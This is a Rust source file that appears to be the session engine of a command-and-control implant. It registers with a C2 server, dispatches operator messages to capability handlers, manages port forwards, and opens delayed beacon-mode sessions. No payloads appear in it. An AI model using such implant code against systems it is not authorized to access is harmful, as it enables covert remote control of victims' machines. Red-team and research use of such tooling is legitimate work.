//! Session engine: persistent bidirectional connection

use crate::context::AgentContext;
use crate::error::AgentError;
use crate::reconnect::{Exit, Outcome, Reconnector};
use crate::registration;
use crate::registry::Route;
use crate::transport::Connection;
use backhaul_proto::message::OpenSession;
use backhaul_proto::{decode, encode, Envelope, MsgType};
use bytes::Bytes;
use std::sync::Arc;
use std::time::Duration;
use tracing::{debug, error, info, warn};

/// Drives one [`Connection`] from registration to teardown
#[derive(Clone)]
pub struct SessionEngine {
    ctx: Arc<AgentContext>,
}

impl SessionEngine {
    /// Create an engine over the shared context
    pub fn new(ctx: Arc<AgentContext>) -> Self {
        Self { ctx }
    }

    /// Register and serve until the connection closes or a special handler
    /// ends the session. Forwards started by this session are stopped before
    /// returning.
    pub async fn run(&self, mut connection: Connection) -> Result<Outcome, AgentError> {
        let session_id = connection.session_id();
        info!("Session {} connected via {}", session_id, connection.active_c2());

        let result = self.serve(&mut connection).await;

        connection.stop();
        let stopped = self.ctx.forwards.stop_session(session_id).await;
        if !stopped.is_empty() {
            debug!("Session {} stopped {} port forwards", session_id, stopped.len());
        }
        match &result {
            Ok(outcome) => info!("Session {} ended: {:?}", session_id, outcome),
            Err(e) => warn!("Session {} failed: {}", session_id, e),
        }
        result
    }

    async fn serve(&self, connection: &mut Connection) -> Result<Outcome, AgentError> {
        let register = registration::collect(&self.ctx, connection.active_c2(), connection.proxy_url());
        connection
            .send(Envelope::request(MsgType::REGISTER, 0, encode(&register)?))
            .await?;

        let outbound = connection.outbound();
        let mut switches = self.ctx.transports.subscribe();
        loop {
            let envelope = tokio::select! {
                envelope = connection.recv() => match envelope {
                    Some(envelope) => envelope,
                    None => break,
                },
                Ok(()) = switches.changed() => {
                    info!("Transport switch requested, dropping connection");
                    break;
                }
            };
            debug!("Received envelope {} (type {})", envelope.id, envelope.msg_type);
            match self.ctx.handlers.route(envelope.msg_type) {
                Route::Special(handler) => {
                    if let Err(e) = handler.handle(envelope.data).await {
                        debug!("Special handler returned an error: {}", e);
                    }
                    return Ok(Outcome::Terminated);
                }
                Route::Channel(class, handler) => {
                    debug!("Dispatching envelope {} to {:?} handler", envelope.id, class);
                    let outbound = outbound.clone();
                    tokio::spawn(async move { handler.handle(envelope, outbound).await });
                }
                Route::Capability(handler) => {
                    let outbound = outbound.clone();
                    tokio::spawn(async move {
                        let data = handler.handle(envelope.data).await.unwrap_or_else(|e| {
                            debug!("Handler for envelope {} returned an error: {}", envelope.id, e);
                            Bytes::new()
                        });
                        if let Err(e) = outbound.send(Envelope::result(envelope.id, data)).await {
                            debug!("Dropping result for envelope {}: {}", envelope.id, e);
                        }
                    });
                }
                Route::OpenSession | Route::Unknown => {
                    debug!("Unknown message type {}", envelope.msg_type);
                    if let Err(e) = outbound.send(Envelope::unknown(envelope.id)).await {
                        debug!("Dropping unknown reply for envelope {}: {}", envelope.id, e);
                    }
                }
            }
        }
        Ok(Outcome::Disconnected)
    }
}

/// Handle an open-session request from beacon mode: after the requested
/// delay, run a session reconnection loop over the given servers in the
/// background.
pub fn spawn_open_session(ctx: Arc<AgentContext>, data: Bytes) {
    let request: OpenSession = match decode(&data) {
        Ok(request) => request,
        Err(e) => {
            warn!("Ignoring undecodable open-session request: {}", e);
            return;
        }
    };
    let Some(dialer) = ctx.session_dialer.clone() else {
        warn!("Open-session requested but no session dialer is configured");
        return;
    };

    tokio::spawn(async move {
        tokio::time::sleep(Duration::from_millis(request.delay_ms)).await;
        info!("Opening session to {:?}", request.c2s);

        let engine = SessionEngine::new(Arc::clone(&ctx));
        let mut reconnector = Reconnector::new(
            request.c2s,
            ctx.config.max_connection_errors,
            Arc::clone(&ctx.settings),
        );
        match reconnector
            .run(&*dialer, |connection| {
                let engine = engine.clone();
                async move { engine.run(connection).await }
            })
            .await
        {
            Ok(Exit::Terminated) => info!("Opened session terminated"),
            Ok(Exit::Aborted) => info!("Opened session aborted"),
            Err(e) => error!("Opened session gave up: {}", e),
        }
    });
}
